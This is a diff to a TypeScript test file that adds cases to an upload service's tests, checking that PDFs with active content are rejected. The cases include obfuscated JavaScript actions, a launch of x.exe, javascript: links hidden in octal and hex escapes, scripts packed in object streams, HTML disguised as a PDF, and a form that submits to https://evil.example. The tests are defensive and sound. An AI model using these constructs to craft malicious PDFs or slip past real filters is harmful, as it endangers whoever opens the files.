@@ -9,7 +9,7 @@ import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from
 import { auditEvents } from "#platform/tables.server.ts";
 import { testContext, testEnv, type TestCtx } from "#test/context.ts";
 import { describeOnDatabase } from "#test/database.ts";
-import { formOf, noise, plainPdf, received } from "#test/media.ts";
+import { formOf, noise, packedPdf, plainPdf, received } from "#test/media.ts";
 import { makeStaff, signedIn, type StaffBrowser } from "#test/staff.ts";
 import { makePictureSizes, tidyMedia } from "./jobs.server.ts";
 import { bytesOf } from "./media-storage.server.ts";
@@ -79,6 +79,56 @@ describeOnDatabase("uploads", (open) => {
       [
         "a PDF with HTML after its end",
         () => Buffer.concat([plainPdf(), Buffer.from("<script>alert(1)</script>")]),
+        "a.pdf",
+        /damaged/,
+      ],
+      [
+        "A-05: a PDF with script whose name is written in signs",
+        () => plainPdf("/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"),
+        "a.pdf",
+        /scripts/,
+      ],
+      ["A-05: a PDF with a program", () => plainPdf("/OpenAction<</S/L#61unch/F(x.exe)>>"), "a.pdf", /scripts/],
+      ["A-05: a PDF with a script alone", () => plainPdf("/Names[(a)<</JS(app.alert(1))>>]"), "a.pdf", /scripts/],
+      [
+        "A-05: a PDF that sends a form to another site",
+        () => plainPdf("/A<</S/SubmitForm/F(https://evil.example)>>"),
+        "a.pdf",
+        /scripts/,
+      ],
+      [
+        "A-05: a PDF with a link to a script",
+        () => plainPdf("/A<</S/URI/URI(JavaScript:alert\\(1\\))>>"),
+        "a.pdf",
+        /scripts/,
+      ],
+      [
+        "A-05: a PDF with a link to a script in escapes",
+        () => plainPdf("/A<</S/URI/URI(\\152avascript:alert)>>"),
+        "a.pdf",
+        /scripts/,
+      ],
+      [
+        "A-05: a PDF with a link to a script in hex",
+        () => plainPdf(`/A<</S/URI/URI<${Buffer.from("javascript:alert").toString("hex")}>>>`),
+        "a.pdf",
+        /scripts/,
+      ],
+      [
+        "A-05: a PDF with a script in an object stream",
+        () => packedPdf("<</S/JavaScript/JS(app.alert(1))>>"),
+        "a.pdf",
+        /scripts/,
+      ],
+      [
+        "A-05: a PDF with an object stream that cannot be looked into",
+        () => packedPdf("<</Type/Page>>", "/Filter[/ASCIIHexDecode/FlateDecode]"),
+        "a.pdf",
+        /scripts/,
+      ],
+      [
+        "A-05: HTML in the clothes of a PDF",
+        () => Buffer.from("%PDF-1.4\n<html><script>alert(1)</script></html>\nstartxref\n9\n%%EOF\n"),
         "a.pdf",
         /damaged/,
       ],
@@ -244,6 +294,10 @@ describeOnDatabase("uploads", (open) => {
       await makePictureSizes(ctx, { key: await keyOf(Number(body["id"])) });
       expect((await browser.call(`GET media/${body["id"]}/progress`)).body["state"], name).toBe("ready");
     }
+  });
+
+  it("A-05: a PDF whose pages and object streams start nothing is taken", async () => {
+    expect((await send(packedPdf("<</Type/Page/JSX 1>>"), "a.pdf")).status).toBe(201);
   });
 
   it("P-09 a PDF is ready at once, as it came", async () => {
